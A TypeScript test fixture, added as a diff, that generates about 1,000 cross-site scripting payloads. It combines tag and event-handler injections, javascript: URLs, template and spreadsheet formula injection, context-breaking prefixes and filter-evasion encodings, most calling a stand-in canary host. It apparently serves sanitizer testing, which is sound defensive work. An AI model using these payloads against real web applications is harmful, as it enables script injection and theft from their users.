@@ -1,0 +1,63 @@
+/**
+ * 1,000 texts that would like to be a script: every way to run one or to reach another machine, written
+ * behind everything that could close the place where the text stands, in every spelling that something on
+ * the way could turn back into markup. `hit()` is what they call and CANARY where they call.
+ */
+
+export const CANARY = 'canary.invalid'
+
+/** Each is one line without control characters, so that a name may be any of them. */
+const FAMILIES = [
+  '<script>hit()</script>',
+  `<script src=//${CANARY}/a.js></script>`,
+  '<img src=x onerror=hit()>',
+  `<img src=//${CANARY}/b.png>`,
+  '<svg onload=hit()>',
+  '<svg><animate onbegin=hit() attributeName=x dur=1s>',
+  '<math><mtext><mglyph><style><img src=x onerror=hit()>',
+  '<iframe srcdoc="<script>parent.hit()</script>">',
+  '<iframe src=javascript:hit()>',
+  '<object data=javascript:hit()>',
+  `<embed src=//${CANARY}/c.swf>`,
+  '<a href=javascript:hit()>read on</a>',
+  '<details open ontoggle=hit()>',
+  '<input autofocus onfocus=hit()>',
+  '<video><source onerror=hit()></video>',
+  '<form action=javascript:hit()><button>go</button></form>',
+  `<meta http-equiv=refresh content="0;url=//${CANARY}/d">`,
+  `<link rel=stylesheet href=//${CANARY}/e.css>`,
+  `<base href=//${CANARY}/>`,
+  `<style>@import "//${CANARY}/f.css";</style>`,
+  `<p style="background:url(//${CANARY}/g)" onpointerover=hit()>`,
+  "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
+  '<template><script>hit()</script></template>',
+  '{{constructor.constructor("hit()")()}}<%= hit() %>',
+  `=HYPERLINK("//${CANARY}/h")+cmd|' /C hit'!A0`,
+] as const
+
+const BREAKERS = ['', '">', "'>", '</p>', '</textarea></title>', '</script>', '-->', ']]>'] as const
+
+const SPELLINGS: ((text: string) => string)[] = [
+  (text) => text,
+  (text) => text.replace(/<\/?[a-z]+|on[a-z]+(?==)|javascript/g, mixedCase),
+  (text) => text.replace(/[<>"']/g, (sign) => `&#${sign.charCodeAt(0)};`),
+  (text) => text.replace(/[<>"'/]/g, (sign) => encodeURIComponent(sign)),
+  // One pass of a careless filter makes it whole.
+  (text) =>
+    text.replace(/script|onerror|onload/g, (word) => `${word.slice(0, 3)}${word}${word.slice(3)}`),
+]
+
+function mixedCase(text: string): string {
+  return [...text].map((sign, at) => (at % 2 === 0 ? sign.toUpperCase() : sign)).join('')
+}
+
+export const PAYLOADS: readonly string[] = FAMILIES.flatMap((family, kind) =>
+  BREAKERS.flatMap((breaker, place) =>
+    SPELLINGS.map((spell, way) => `${spell(breaker + family)} ${kind}.${place}.${way}`),
+  ),
+)
+
+/** One of each family, each behind another breaker. */
+export const EACH_FAMILY: readonly string[] = FAMILIES.map(
+  (family, kind) => `${BREAKERS[kind % BREAKERS.length]}${family}`,
+)
